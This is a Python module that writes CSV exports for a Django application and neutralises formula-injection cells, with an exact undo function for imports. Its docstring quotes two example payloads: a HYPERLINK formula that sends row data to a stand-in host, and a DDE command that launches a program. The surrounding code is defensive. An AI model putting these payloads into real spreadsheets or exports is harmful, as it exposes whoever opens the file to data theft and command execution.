# SPDX-License-Identifier: EUPL-1.2
"""The one CSV writer of llo, and the reader's undo of what it neutralises.

Every CSV file llo writes (the open spending data, a funder's budget export, a provider's
offers, and any new export) is made here, so that one rule protects all of them against
**CSV injection** (also called formula injection; OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection; OWASP ASVS 5.0 requirement 1.2.10).

The rule
--------
A spreadsheet program (Excel, LibreOffice Calc, Google Sheets, Numbers) that opens a CSV file
reads a cell that begins with ``=``, ``+``, ``-`` or ``@``, a tab or a carriage return as a
formula. A title such as ``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` then sends the
other cells of the row to a stranger when clicked, and ``@SUM(1+1)*cmd|' /C calc'!A0`` (DDE)
starts a program on older Excel. The person who opens the file (a funder's clerk, a
journalist reading open data) is the victim, not llo.

So, as OWASP advises:

1. A text cell whose first character (after spaces, which LibreOffice may trim, and quote
   marks) is one of ``= + - @``, TAB (0x09), CR (0x0D) or NUL (0x00, ASVS 5.0 1.2.10) is
   written with a single quote ``'`` before it. A spreadsheet then shows it as text and never
   evaluates it.
2. The same holds after every comma, semicolon, tab or line break **inside** a cell. OWASP
   warns that an attacker can otherwise end a cell with a separator and start a new one with
   ``=``: RFC 4180 quoting protects only a spreadsheet that splits on the separator the file
   was written with, and Dutch Excel splits a comma file on ``;`` (English Excel a semicolon
   file on ``,``), where our quotes are in the middle of a cell and mean nothing. So
   ``Lassen;=HYPERLINK(…)`` is written ``Lassen;'=HYPERLINK(…)``.
3. A cell that is only a number (an optional minus, digits, at most one decimal comma or
   point: ``-12,50``, ``-3``) is written as it is: a number is not a formula in any
   spreadsheet, and amounts must stay numbers. ``-2+3`` or ``+31 6 1234 5678`` are not
   numbers in this sense and are neutralised.
4. A cell is quoted (RFC 4180 sections 2.6 and 2.7: in double quotes, a double quote
   doubled) when it holds the separator of the file, a quote, a line break, a tab or a space
   at either end. (A comma in a semicolon file needs no quotes: rule 2 already covers a
   spreadsheet that splits there, and ``400,00`` stays a plain Dutch amount.)
5. A ``'`` is also added where the text already has quote marks before such a character
   (``'=x`` is written ``''=x``). That makes the neutralisation exactly reversible:
   :func:`restore` removes one ``'`` only where :func:`neutralise` added one, so a provider's
   own export imports again unchanged (``-2+3``, ``+31…`` and ``'=x`` come back as they were)
   and every other value is left alone.

Readers of files llo writes (the register's CSV import) pass every cell through
:func:`restore`. Other readers (the funder's deposit file: numbers and dates only) need not.

Lines end in CR LF (RFC 4180 section 2.1). Files for Dutch spreadsheets use ``;`` and start
with a byte order mark (Excel needs it to read UTF-8 accents); open data uses ``,``.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable, Iterator

from django.http import HttpResponse, StreamingHttpResponse

#: The characters that make a spreadsheet read a cell as a formula (OWASP; ASVS 5.0 1.2.10).
FORMULA_START = frozenset("=+-@\t\r\0")

#: Where a spreadsheet may start a cell: after any separator it might guess, or a line break
#: (a spreadsheet that guessed the wrong separator does not see our quotes).
_SPLIT = re.compile(r"([,;\t\r\n])")

#: A cell that is only a number: data in every spreadsheet, never a formula.
_NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?")

#: A cell with the separator, a quote, a line break or a tab, or a space at either end, is
#: quoted (RFC 4180 2.6; spaces and tabs because some programs trim them).
_QUOTE = {
    ";": re.compile(r'[";\t\r\n]|^\s|\s$'),
    ",": re.compile(r'[",\t\r\n]|^\s|\s$'),
}

#: What a cell may be; the caller formats everything else (money, booleans, dates) itself,
#: so no float or locale slips into a file by accident.
Cell = str | int | dt.date | None

CONTENT_TYPE = "text/csv; charset=utf-8"
CRLF = "\r\n"
BOM = "\ufeff"


def _formula_at(segment: str, separator: str) -> bool:
    """Whether a cell that starts here would be a formula: its first character after spaces
    and quote marks (a space may be trimmed, a double quote opens a quoted cell) is one of
    :data:`FORMULA_START`. An empty segment starts with the separator after it (a tab or a
    carriage return is itself such a character)."""
    rest = segment.lstrip(" '\"")
    return (rest[:1] if rest else separator) in FORMULA_START


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet could read this text, at the start of a cell, as a formula. The
    register refuses such titles at admission (``llo.register.checks``); every writer
    neutralises them anyway."""
    first = _SPLIT.split(text, maxsplit=1)
    return _formula_at(first[0], first[1] if len(first) > 1 else "") and not _NUMBER.fullmatch(
        text.strip(" ")
    )


def neutralise(text: str) -> str:
    """The text as it is written into a cell (rules 1, 2, 3 and 5 of the module docstring): a
    ``'`` before every place where a spreadsheet could start a formula, the cell's start and
    every place after a separator or line break, unless the whole cell is a plain number."""
    parts = _SPLIT.split(text)
    for i in range(0, len(parts), 2):
        separator = parts[i + 1] if i + 1 < len(parts) else ""
        if _formula_at(parts[i], separator) and not (i == 0 and _NUMBER.fullmatch(text)):
            parts[i] = "'" + parts[i]
    return "".join(parts)


def restore(text: str) -> str:
    """Undo :func:`neutralise` exactly: ``restore(neutralise(t)) == t`` for every text, and
    nothing :func:`neutralise` did not add is removed (a ``'`` is removed only where the rest
    would need one, and :func:`neutralise` adds one to such a ``'`` too)."""
    parts = _SPLIT.split(text)
    for i in range(0, len(parts), 2):
        separator = parts[i + 1] if i + 1 < len(parts) else ""
        segment = parts[i]
        if (
            segment.startswith("'")
            and _formula_at(segment[1:], separator)
            and not (i == 0 and _NUMBER.fullmatch(text[1:]))
        ):
            parts[i] = segment[1:]
    return "".join(parts)


def _text(cell: Cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, bool):
        # bool is an int: say what it means instead (ja/nee, true/false) at the caller.
        raise TypeError("format a boolean as text before writing it to CSV")
    if isinstance(cell, int):
        return str(cell)
    if isinstance(cell, dt.date):
        return cell.isoformat()
    if isinstance(cell, str):
        return neutralise(cell)
    raise TypeError(f"cannot write a {type(cell).__name__} to CSV; format it as text first")


def field(cell: Cell, delimiter: str = ";") -> str:
    """One cell as it appears between the separators: neutralised, quoted where needed."""
    text = _text(cell)
    if _QUOTE[delimiter].search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


class Writer:
    """Lines of one CSV file. ``line`` returns the text of a row (with its CR LF), so a
    response can stream a file of any size one chunk at a time."""

    def __init__(self, delimiter: str = ";") -> None:
        if delimiter not in (";", ","):
            raise ValueError("llo writes CSV with ';' or ','")
        self.delimiter = delimiter

    def line(self, cells: Iterable[Cell]) -> str:
        return self.delimiter.join(field(c, self.delimiter) for c in cells) + CRLF

    def lines(
        self, header: Iterable[str], rows: Iterable[Iterable[Cell]], bom: bool = False
    ) -> Iterator[str]:
        """The header line (after a byte order mark when asked) and then one line a row."""
        yield (BOM if bom else "") + self.line(header)
        for row in rows:
            yield self.line(row)


def text(
    header: Iterable[str], rows: Iterable[Iterable[Cell]], delimiter: str = ";", bom: bool = False
) -> str:
    """A whole CSV file as one text."""
    return "".join(Writer(delimiter).lines(header, rows, bom=bom))


def response(content: str | Iterable[str], filename: str) -> HttpResponse | StreamingHttpResponse:
    """An HTTP download of CSV made by :class:`Writer`: a text as one response, lines as a
    streamed one (a large export never sits in memory whole). ``nosniff``: a browser must not
    guess another type."""
    resp: HttpResponse | StreamingHttpResponse
    if isinstance(content, str):
        resp = HttpResponse(content, content_type=CONTENT_TYPE)
    else:
        resp = StreamingHttpResponse(content, content_type=CONTENT_TYPE)
    resp["Content-Disposition"] = f'attachment; filename="{filename}"'
    resp["X-Content-Type-Options"] = "nosniff"
    return resp
